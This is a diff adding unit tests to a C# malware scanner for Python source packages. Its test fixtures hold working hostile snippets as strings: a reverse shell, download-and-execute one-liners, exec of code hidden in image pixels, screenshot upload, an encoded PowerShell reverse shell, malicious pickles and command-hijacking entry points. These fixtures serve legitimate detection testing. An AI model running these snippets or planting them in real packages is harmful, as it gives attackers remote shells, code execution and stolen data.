@@ -103,6 +103,80 @@ public sealed class TechniqueFamilyTests
         Assert.NotEqual(Verdict.Benign, report.Verdict);
     }
 
+    [Theory]
+    [InlineData("import asyncio, threading\n\nasync def _s():\n    r, w = await asyncio.open_connection('192.0.2.5', 443)\n    while True:\n        line = await r.readline()\n        p = await asyncio.create_subprocess_shell(line.decode(), stdout=-1)\n        out, _ = await p.communicate()\n        w.write(out)\n\nthreading.Thread(target=lambda: asyncio.run(_s())).start()\n_t = _s\n", "reverse-shell")]
+    [InlineData("import threading, time, urllib.request, json, subprocess\nAPI = 'https://chat.x.invalid/api'\n\ndef _get(path):\n    return json.loads(urllib.request.urlopen(API + path).read())\n\ndef _loop():\n    for m in _get('/messages'):\n        subprocess.run(m['text'], shell=True)\n\nthreading.Thread(target=_loop, daemon=True).start()\n", "download-execute")]
+    [InlineData("import os, requests\n\ndef fetch(url, dst):\n    open(dst, 'wb').write(requests.get(url).content)\n\nfetch('https://x.invalid/r', '/tmp/.r')\nos.chmod('/tmp/.r', 0o755)\nos.system('/tmp/.r')\n", "download-execute")]
+    [InlineData("import os\nh = 'x.invalid'\n_c = f\"{'wg'}{'et'} -qO- {f'http://{h}/i'} | {'s' + 'h'}\" if os.name != 'nt' else None\nos.system(_c)\n", "download-execute")]
+    [InlineData("import os\nfrom PIL import Image\nP = os.path.join(os.path.dirname(__file__), 'logo.png')\n\ndef _bits(path=P):\n    return bytes(p[0] & 1 for p in Image.open(path).getdata())\n\ncode = _bits()\nexec(code)\n", "obfuscated-exec")]
+    [InlineData("import requests\nfrom PIL import ImageGrab\n\ndef _shot():\n    img = ImageGrab.grab()\n    return img.tobytes()\n\nrequests.post('https://x.invalid/u', data=_shot())\n", "credential-exfiltration")]
+    public async Task Round_four_families_run_at_import_are_caught(string init, string check)
+    {
+        var report = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", init));
+        Assert.True(report.Has(check), Findings(report));
+        Assert.NotEqual(Verdict.Benign, report.Verdict);
+    }
+
+    [Fact]
+    public async Task A_powershell_encoded_command_inside_a_command_line_is_decoded()
+    {
+        var script = Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes("$c=New-Object Net.Sockets.TCPClient('192.0.2.9',443)"));
+        var report = await Packages.ScanSdistAsync(("setup.py", $"import subprocess\nsubprocess.Popen('powershell -nop -w hidden -enc {script}', shell=True)\n"));
+        Assert.True(report.Has("reverse-shell"), Findings(report));
+        Assert.Equal(Verdict.Threat, report.Verdict);
+    }
+
+    [Theory]
+    [InlineData("cos\nsystem\n(S'id'\ntR.", "os.system")]
+    [InlineData("c__builtin__\neval\n(S'1'\ntR.", "__builtin__.eval")]
+    public async Task A_shipped_pickle_that_calls_a_process_or_exec_is_obfuscated_exec(string pickle, string global)
+    {
+        var report = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", "X = 1\n"), ("demo_pkg/model.pkl", pickle));
+        Assert.Contains(report.Findings, f => f.CheckId == "obfuscated-exec" && f.Evidence.Contains(global, StringComparison.Ordinal));
+        Assert.Equal(Verdict.Threat, report.Verdict);
+    }
+
+    [Fact]
+    public void Pickle_heads_are_read_for_dangerous_globals_only()
+    {
+        // Protocol 4: STACK_GLOBAL after two SHORT_BINUNICODE strings.
+        byte[] stackGlobal = [0x80, 0x04, 0x95, 0x20, 0, 0, 0, 0, 0, 0, 0, 0x8c, 0x0a, .. "subprocess"u8, 0x94, 0x8c, 0x05, .. "Popen"u8, 0x94, 0x93, 0x94, 0x2e];
+        Assert.Equal("subprocess.Popen", Bonded.Scanning.Checks.ObfuscatedExecCheck.DangerousPickleGlobal(stackGlobal));
+        byte[] numpy = [0x80, 0x02, .. "cnumpy.core.multiarray\n_reconstruct\nq\x00"u8];
+        Assert.Null(Bonded.Scanning.Checks.ObfuscatedExecCheck.DangerousPickleGlobal(numpy));
+        Assert.Null(Bonded.Scanning.Checks.ObfuscatedExecCheck.DangerousPickleGlobal("# not a pickle: os\nsystem\n"u8));
+        Assert.Null(Bonded.Scanning.Checks.ObfuscatedExecCheck.DangerousPickleGlobal([0x80, 0x04]));
+    }
+
+    [Theory]
+    [InlineData("setup.cfg", "[options.entry_points]\nconsole_scripts =\n    tool = demo_pkg.cli:main\n    git = demo_pkg.shim:git\n")]
+    [InlineData("setup.py", "from setuptools import setup\nsetup(entry_points={'console_scripts': ['aws=demo_pkg.shim:aws', 'kubectl=demo_pkg.shim:k']})\n")]
+    [InlineData("pyproject.toml", "[project]\nname = 'demo-pkg'\n[project.scripts]\ndocker = 'demo_pkg.shim:docker'\n")]
+    public async Task Console_scripts_named_after_system_commands_are_command_jacking(string path, string text)
+    {
+        var report = await Packages.ScanSdistAsync((path, text));
+        Assert.Contains(report.Findings, f => f.CheckId == "persistence" && f.File!.EndsWith(path, StringComparison.Ordinal) && f.Line > 1 && f.Evidence.Contains('=', StringComparison.Ordinal));
+    }
+
+    [Theory]
+    [InlineData("setup.cfg", "[options.entry_points]\nconsole_scripts =\n    demo = demo_pkg.cli:main\nvirtualenv.activate =\n    bash = demo_pkg.activation:Bash\n")]
+    [InlineData("setup.py", "from setuptools import setup\nsetup(name='demo-pkg', entry_points={'demo.plugins': ['git = demo_pkg.git:Plugin'], 'console_scripts': ['demo = demo_pkg.cli:main']})\n")]
+    public async Task Plugin_groups_and_own_commands_are_not_command_jacking(string path, string text)
+    {
+        var report = await Packages.ScanSdistAsync((path, text));
+        Assert.DoesNotContain(report.Findings, f => f.CheckId == "persistence");
+    }
+
+    [Theory]
+    [InlineData("demo_pkg/data.py", "import pickle, urllib.request\n\ndef _open(url):\n    return urllib.request.urlopen(url)\n\ndef load(url):\n    return pickle.load(_open(url))\n")]
+    [InlineData("demo_pkg/__init__.py", "import os\nfrom PIL import Image\n\ndef _palette(path):\n    return sorted(set(Image.open(path).getdata()))\n\nPALETTE = _palette(os.path.join(os.path.dirname(__file__), 'p.png'))\nexec('X = 1')\n")]
+    [InlineData("demo_pkg/client.py", "import asyncio\n\nasync def ask(host, text):\n    r, w = await asyncio.open_connection(host, 80)\n    w.write(text.encode())\n    return await r.readline()\n")]
+    public async Task Round_four_look_alikes_stay_benign(string path, string code)
+    {
+        var report = await Packages.ScanSdistAsync((path, code));
+        Assert.True(report.Verdict == Verdict.Benign, Findings(report));
+    }
+
     [Fact]
     public async Task Code_decoded_from_a_literal_is_analysed_where_it_runs()
     {
